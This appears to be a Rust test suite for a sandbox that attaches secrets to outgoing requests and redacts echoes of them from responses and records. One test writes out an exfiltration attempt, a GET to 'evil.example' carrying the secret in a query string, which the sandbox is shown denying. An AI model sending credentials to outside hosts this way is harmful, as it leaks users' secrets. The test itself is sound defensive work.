//! Secrets go out with the requests that they belong to, and never reach a guest or a record.

use crate::egress_guest::{Answer, Ask, Given, code, denied, failed, grant, resolving};
use crate::egress_server::{Server, reply};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use ringfence_sandbox::{
    Addresses, CallError, CallReport, DenialReason, EgressContext, Outcome, Resolve, SecretGrant,
    SecretValue, Secrets,
};
use serde_json::json;
use std::sync::Arc;
use tokio::io::AsyncWriteExt;

const VALUE: &str = "tok/en+\"7&x\" of-mine";

fn secret(host: &str) -> SecretGrant {
    let written = json!({"name": "key", "host": host, "header": "Authorization", "prefix": "Bearer "});
    serde_json::from_value(written).unwrap()
}

fn values(host: &str) -> EgressContext {
    let mut secrets = Secrets::default();
    secrets.insert(secret(host), SecretValue::new(VALUE.to_owned()).unwrap());
    EgressContext::new(Arc::new(secrets))
}

fn with_a_secret(server: &Server) -> Given {
    let url = server.url("");
    Given { secrets: vec![secret(&url)], egress: values(&url), ..Given::host(&url) }
}

/// Nothing that is kept or shown of a call tells the secret.
fn tells_nothing(report: &CallReport) {
    let all = format!(
        "{report:?} {} {}",
        serde_json::to_string(&report.receipt).unwrap(),
        report.outcome.message(&report.receipt)
    );
    for form in [VALUE, "tok/en", "tok%2Fen", &STANDARD.encode(VALUE)[..16]] {
        assert!(!all.contains(form), "{form} in {all}");
    }
    if let Outcome::Done(_) = &report.outcome {
        let answer = Answer::of(report);
        let headers = format!("{:?}", answer.headers);
        let body = String::from_utf8_lossy(&answer.body).into_owned();
        for seen in [headers, body] {
            assert!(!seen.contains("tok/en") && !seen.contains("of-mine"), "{seen}");
        }
    }
}

#[tokio::test]
async fn a_secret_goes_out_and_its_echo_is_taken_out() {
    let server = Server::echoing().await;
    let report = with_a_secret(&server).get(&server.url("/x")).await;
    let sent = format!("authorization: Bearer {VALUE}\r\n");
    assert!(server.heard()[0].contains(&sent), "{:?}", server.heard());
    let answer = Answer::of(&report);
    assert!(answer.text().contains("authorization: Bearer [secret key]\r\n"), "{}", answer.text());
    assert_eq!(answer.header("content-length"), None);
    tells_nothing(&report);
}

#[tokio::test]
async fn a_secret_goes_to_no_other_host_port_or_path() {
    let (server, other) = (Server::echoing().await, Server::echoing().await);
    let hosts = vec![
        grant(json!({"url": server.url(""), "private": true})),
        grant(json!({"url": other.url(""), "private": true})),
    ];
    let url = server.url("/v1");
    let given = Given { hosts, secrets: vec![secret(&url)], egress: values(&url), ..Given::default() };
    for url in [other.url("/v1"), server.url("/"), server.url("/v10"), server.url("/v1/%2e%2e/x")] {
        assert_eq!(Answer::of(&given.get(&url).await).status, 200);
    }
    for head in server.heard().into_iter().chain(other.heard()) {
        assert!(!head.contains("authorization"), "{head}");
    }
    let report = given.get(&server.url("/v1/x")).await;
    assert!(Answer::of(&report).text().contains("[secret key]"));
}

#[tokio::test]
async fn an_echo_is_found_across_pieces_and_in_other_forms() {
    let quoted = json!(VALUE).to_string();
    let coded = STANDARD.encode(format!("user:{VALUE}"));
    let body = format!(
        "plain {VALUE} json {quoted} url tok%2Fen%2B%227%26x%22%20of-mine form tok%2Fen%2B%227%26x%22+of-mine base64 {coded} end"
    );
    for size in [1, 7, 64, 1000] {
        let body = body.clone();
        let server = Server::new(move |mut connection, _| {
            let body = body.clone();
            async move {
                let head = "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n";
                connection.write_all(head.as_bytes()).await.unwrap();
                for piece in body.as_bytes().chunks(size) {
                    let chunk = [format!("{:x}\r\n", piece.len()).as_bytes(), piece, b"\r\n"].concat();
                    connection.write_all(&chunk).await.unwrap();
                    connection.flush().await.unwrap();
                    tokio::task::yield_now().await;
                }
                connection.write_all(b"0\r\n\r\n").await.unwrap();
            }
        })
        .await;
        let report = with_a_secret(&server).get(&server.url("/")).await;
        let answer = Answer::of(&report);
        assert_eq!(answer.text().matches("[secret key]").count(), 5, "{}", answer.text());
        assert!(answer.text().starts_with("plain [secret key] json \"[secret key]\" url [secret key] form"));
        assert!(answer.text().ends_with(" end"));
        tells_nothing(&report);
    }
}

#[tokio::test]
async fn an_echo_in_headers_is_taken_out() {
    let head = format!(
        "HTTP/1.1 302 Found\r\nlocation: /?k=tok%2Fen%2B%227%26x%22%20of-mine\r\nset-cookie: {VALUE}\r\ncontent-length: 0\r\n\r\n"
    );
    let server = Server::saying(head).await;
    let report = with_a_secret(&server).get(&server.url("/")).await;
    let answer = Answer::of(&report);
    assert_eq!(answer.header("location"), Some("/?k=[secret key]"));
    assert_eq!(answer.header("set-cookie"), Some("[secret key]"));
    tells_nothing(&report);
}

#[tokio::test]
async fn a_guest_can_t_set_the_secret_s_header_or_hide_an_echo() {
    let server = Server::saying(
        [b"HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: 3\r\n\r\nabc".as_slice()].concat(),
    )
    .await;
    let given = with_a_secret(&server);
    for header in [("Authorization", "mine"), ("range", "bytes=0-5")] {
        let report = given.ask(&Ask { headers: &[header], ..Ask::get(&server.url("/")) }).await;
        assert_eq!(denied(&report).1.reason, DenialReason::Malformed);
    }
    assert!(server.heard().is_empty());
    let coded = [("accept-encoding", "gzip")];
    let report = given.ask(&Ask { headers: &coded, ..Ask::get(&server.url("/")) }).await;
    assert_eq!(failed(&report), code::CONTENT_CODING);
    assert!(server.heard()[0].contains("accept-encoding: identity\r\n"));
}

#[tokio::test]
async fn an_echo_can_t_hide_in_a_transfer_coding() {
    for coding in ["gzip, chunked", "gzip\r\ntransfer-encoding: chunked", "x-mine, chunked"] {
        let head = format!("HTTP/1.1 200 OK\r\ntransfer-encoding: {coding}\r\n\r\n");
        let server = Server::saying(head + "3\r\nabc\r\n0\r\n\r\n").await;
        let report = with_a_secret(&server).get(&server.url("/")).await;
        assert_eq!(failed(&report), code::TRANSFER_CODING, "{coding}");
        let report = Given::host(&server.url("")).get(&server.url("/")).await;
        assert_eq!(failed(&report), code::TRANSFER_CODING, "{coding}");
    }
}

#[tokio::test]
async fn a_host_can_t_ask_for_secrets_that_belong_to_others() {
    let server = Server::saying(reply("x", VALUE.as_bytes())).await;
    // The run has the secret, but it is no host's that this call may ask.
    let far = "https://api.example.com";
    let given = Given { egress: values(far), ..Given::host(&server.url("")) };
    let elsewhere = Given { secrets: vec![secret(far)], ..given.clone() };
    for given in [given, elsewhere] {
        let report = given.get(&server.url("/")).await;
        let Outcome::Done(answer) = &report.outcome else { panic!("{:?}", report.outcome) };
        // What the guest saw: as long as what was sent. What is told of it: nothing.
        let length = |header: &serde_json::Value| header[0] == "content-length";
        assert!(answer["headers"].as_array().unwrap().iter().any(length), "{answer}");
        assert!(!format!("{report:?}").contains(VALUE));
    }
}

#[tokio::test]
async fn a_secret_that_a_guest_got_to_know_is_in_no_record_all_the_same() {
    let server = Server::saying(reply("x", b"hello")).await;
    let path = "/?k=tok%2Fen%2B%227%26x%22%20of-mine";
    let given = with_a_secret(&server);
    let report = given.get(&server.url(path)).await;
    assert_eq!(report.receipt.requests[0].url, server.url("/?k=[secret key]"));
    tells_nothing(&report);
    let report = given.get(&format!("http://evil.example{path}")).await;
    assert_eq!(denied(&report).1.asked, "GET http://evil.example/?k=[secret key]");
    tells_nothing(&report);
    tells_nothing(&given.ask(&Ask { method: "DELETE", ..Ask::get(&server.url(path)) }).await);
}

struct Public;

impl Resolve for Public {
    fn resolve(&self, _name: &str) -> Addresses {
        Box::pin(async { Ok(vec!["1.1.1.1".parse().unwrap()]) })
    }
}

#[tokio::test]
async fn a_secret_isn_t_sent_unencrypted_to_the_internet() {
    let host = "http://api.example.com";
    let egress = values(host).resolving_by(Arc::new(Public));
    let given = Given { secrets: vec![secret(host)], egress, ..Given::host(host) };
    let report = given.get("http://api.example.com/").await;
    let (_, denial) = denied(&report);
    assert_eq!(denial.resolved, "a secret would travel unencrypted to 1.1.1.1");
    assert_eq!(report.receipt.requests[0].address, None);
}

#[tokio::test]
async fn a_call_whose_secret_has_no_value_is_not_made() {
    let server = Server::echoing().await;
    let given = Given { egress: resolving(Public), ..with_a_secret(&server) };
    let error = given.refused(&Ask::get(&server.url("/"))).await;
    assert!(
        matches!(&error, CallError::Host { reason, .. } if reason == "the secret `key` has no value"),
        "{error}"
    );
}
